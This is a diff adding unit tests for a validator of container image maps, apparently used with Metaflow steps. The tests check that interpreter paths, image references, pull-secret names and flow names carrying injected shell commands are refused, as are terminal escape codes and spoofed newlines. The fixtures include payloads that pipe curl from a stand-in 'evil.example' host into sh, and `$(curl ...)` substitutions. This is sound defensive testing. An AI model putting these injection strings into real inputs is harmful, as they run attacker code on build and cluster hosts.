@@ -128,6 +128,92 @@ class ImageMapTest(unittest.TestCase):
             "arn:aws:secretsmanager:x",
         )
 
+    def hostile(self, change):
+        """A copy of MAP with `change(map)` applied: what a cloned repository's map could say."""
+        data = json.loads(json.dumps(MAP))
+        change(data)
+        return data
+
+    def test_an_interpreter_that_is_not_a_plain_absolute_path_is_refused(self):
+        # Metaflow runs the step as `bash -c "... <interpreter> -u flow.py step ..."` (kubernetes,
+        # batch, argo, step functions): a cloned repository's map must not add commands to it.
+        for python in [
+            "/opt/prebuilt/env/bin/python; curl https://evil.example/x | sh; true",
+            "$(curl evil.example)",
+            "/opt/env/bin/python `id`",
+            "/opt/env/bin/python && id",
+            '/opt/env/bin/python"',
+            "python",
+            "../env/bin/python",
+            "/opt/env/bin/py\nthon",
+            "/opt/env/bin/python\n",
+            "",
+        ]:
+            with self.subTest(python=python):
+                data = self.hostile(lambda m: m["steps"]["start"].update(python=python))
+                with self.assertRaises(ImageMapError) as caught:
+                    step_image(data, "m.json", "start", "flow.py")
+                text = str(caught.exception)
+                self.assertIn("names the interpreter", text)
+                self.assertIn("for step 'start', which is not an absolute path", text)
+                self.assertIn("prebuilt build flow.py", text)
+                self.assertNotIn("\n/opt", text)
+        # What prebuilt writes passes.
+        self.assertEqual(step_image(MAP, "m.json", "start", "flow.py")["python"], MAP["steps"]["start"]["python"])
+
+    def test_an_image_that_is_not_an_image_reference_is_refused(self):
+        for image in [
+            "127.0.0.1:5000/x:t\x1b]0;owned\x07",
+            "r/x:t\nWarning: fake",
+            "r/x:t; id",
+            "R/X:t",
+            "r/x:-t",
+            "r/x@sha256:1234",
+            "",
+        ]:
+            with self.subTest(image=image):
+                data = self.hostile(lambda m: m["steps"]["start"].update(pinnedImage=image + "@sha256:" + "1" * 64, image=image))
+                with self.assertRaises(ImageMapError) as caught:
+                    step_image(data, "m.json", "start", "flow.py")
+                text = str(caught.exception)
+                self.assertIn("names an image for step 'start' that is not an image reference", text)
+                self.assertNotIn("\x1b", text)
+                self.assertNotIn("\nWarning", text)
+        for image in ["r/x:t", "127.0.0.1:5000/metaflow-prebuilt:env-0123-amd64", "[::1]:5000/a/b_c:v1.2", "registry.example.com/a-b/c__d:latest"]:
+            with self.subTest(image=image):
+                data = self.hostile(lambda m: m["steps"]["start"].update(image=image, pinnedImage=image + "@sha256:" + "1" * 64))
+                self.assertEqual(step_image(data, "m.json", "start", "flow.py")["image"], image + "@sha256:" + "1" * 64)
+
+    def test_pull_settings_of_the_wrong_shape_or_not_names_are_refused_not_a_traceback(self):
+        for pull_config, message in [
+            ({"kubernetes": "regcred"}, "pull config"),
+            ({"kubernetes": {"imagePullSecrets": "regcred"}}, "pull config"),
+            ({"kubernetes": {"imagePullSecrets": ["x; curl evil | sh"]}}, "names the pull secret 'x; curl evil | sh' for step 'start', which is not a Kubernetes secret name"),
+            ({"kubernetes": {"imagePullSecrets": ["Reg\x1b[2J"]}}, "names the pull secret 'Reg\\u001b[2J'"),
+            ({"batch": ["arn"]}, "pull config"),
+            ({"batch": {"repositoryCredentials": {"credentialsParameter": "arn:x\nWarning: fake"}}}, "names the Batch repository credentials 'arn:x\\nWarning: fake'"),
+        ]:
+            with self.subTest(pull_config=pull_config):
+                data = self.hostile(lambda m: m["images"][ENV].update(pullConfig=pull_config))
+                with self.assertRaises(ImageMapError) as caught:
+                    step_image(data, "m.json", "start", "flow.py")
+                self.assertIn(message, str(caught.exception))
+
+    def test_a_map_that_is_not_utf8_or_quotes_control_characters_is_a_clear_error(self):
+        path = os.path.join(self.dir.name, "binary.json")
+        with open(path, "wb") as f:
+            f.write(b"\xff\xfe{}")
+        with self.assertRaises(ImageMapError) as caught:
+            load_image_map(path)
+        self.assertIn("is not one prebuilt wrote: not UTF-8 text", str(caught.exception))
+        # The flow and step names of the map are quoted with their control characters escaped.
+        with self.assertRaises(ImageMapError) as caught:
+            check_flow(self.hostile(lambda m: m.update(flow="F\x1b]0;x\x07")), "m.json", "HelloFlow", "flow.py")
+        self.assertIn("is for flow F\\u001b]0;x\\u0007, not HelloFlow", str(caught.exception))
+        with self.assertRaises(ImageMapError) as caught:
+            load_image_map(self.write({"flow": "F", "images": {}, "steps": {"a\nb": {"image": "x"}}}))
+        self.assertIn("step 'a\\nb' lacks", str(caught.exception))
+
 
 class FindCliTest(unittest.TestCase):
     def setUp(self):
